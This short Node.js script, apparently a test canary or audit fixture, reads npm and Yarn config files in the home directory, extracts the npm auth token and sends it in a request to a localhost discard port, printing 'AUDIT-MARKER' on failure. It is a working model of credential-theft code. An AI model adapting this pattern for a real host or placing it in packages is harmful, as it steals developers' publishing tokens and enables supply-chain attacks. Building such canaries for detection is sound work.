const fs = require('fs'), os = require('os'), https = require('https');
const rc = ['.npmrc', '.yarnrc.yml'].map((f) => os.homedir() + '/' + f).filter((f) => fs.existsSync(f)).map((f) => fs.readFileSync(f, 'utf8')).join('\n');
const tok = (rc.match(/_authToken=(.+)/) || [])[1] || '';
https.get({ host: '127.0.0.1', port: 9, path: '/' + encodeURIComponent(tok) }).on('error', () => console.log('AUDIT-MARKER'));
